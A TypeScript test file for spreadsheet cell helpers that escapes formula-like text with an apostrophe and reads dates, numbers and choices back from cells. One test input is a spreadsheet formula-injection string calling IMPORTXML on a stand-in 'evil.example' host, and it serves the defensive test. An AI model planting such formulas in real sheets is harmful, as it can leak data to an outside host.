import fc from 'fast-check';
import { cellChoice, cellDate, cellNumber, cellText, textCell } from '../../src/sheet/cell';

describe('text stays text', () => {
  it.each([
    ['=1+1'],
    ['=IMPORTXML("https://evil.example","//a")'],
    ['+1 555 0100'],
    ['-5'],
    ['@SUM(A1)'],
    ['1-2'],
    ['01'],
    ['3/4'],
    ['07:00'],
    ['50%'],
    ['$5'],
    ['2026-11-24'],
    ['24 Nov 2026'],
    ['TRUE'],
    ['false'],
    ["'quoted"],
    ['  =1+1'],
    ['٣-٤'],
    ['1AM'],
    ['＝1+1'],
    ['−5'],
    ['\u200b=1+1'],
    ['Jan/5'],
    ['WAHR'],
    ['0'.repeat(70)],
  ])('%s is written behind an apostrophe', (text) => {
    expect(textCell(text)).toBe(`'${text}`);
  });

  it.each([["'90s"], ["'=1+1"], ["''07"], ["'n Sync"], ["''abc"], ["'''abc"]])(
    'apostrophes of its own stay, whether or not the cell keeps the first: %s',
    (text) => {
      const written = textCell(text);
      expect([cellText(written), cellText(written.slice(1))]).toEqual([text, text]);
    },
  );

  it.each([
    ['Dana Kim'],
    [''],
    ['dana7@bank.example'],
    ['https://linkedin.example/in/dana-7'],
    ['李小龙'],
    ['Head of R&D'],
    [
      'She told me that in 2019 the bank had three branches and that now there are seventeen of them.',
    ],
  ])('%s needs none', (text) => {
    expect(textCell(text)).toBe(text);
  });

  it('whatever it is, a cell that keeps the apostrophe and one that drops it read back the same', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 80 }), (text) => {
        const written = textCell(text);
        const dropped = written.startsWith("'") ? written.slice(1) : written;
        expect(cellText(dropped)).toBe(
          text.trim().startsWith("'") ? cellText(dropped) : text.trim(),
        );
        expect(cellText(written)).toBe(cellText(dropped));
      }),
    );
  });

  it('a text that no cell can hold is cut, and nothing is refused', () => {
    expect(textCell('a'.repeat(60_000)).length).toBeLessThanOrEqual(50_000);
    expect(textCell(`=${'a'.repeat(60_000)}`).length).toBeLessThanOrEqual(50_000);
  });
});

describe('a cell is read as what it is', () => {
  it.each([
    ['a date typed as text is no date', cellDate('24 Nov 2026'), null],
    ['an invalid date is none', cellDate(new Date(Number.NaN)), null],
    ['an empty cell is no date', cellDate(''), null],
    ['a number stands for its digits', cellText(42), '42'],
    ['an error object has no text', cellText({}), ''],
    ['a number typed as text counts', cellNumber('30', 20), 30],
    ['words are no number', cellNumber('half an hour', 20), 20],
    ['an empty cell is no number', cellNumber('', 20), 20],
    ['a choice is found whatever its case', cellChoice(' met ', ['Met', 'Asked'], 'Asked'), 'Met'],
    [
      'another word is none of the choices',
      cellChoice('maybe', ['Met', 'Asked'], 'Asked'),
      'Asked',
    ],
  ])('%s', (_, read, expected) => {
    expect(read).toEqual(expected);
  });
});
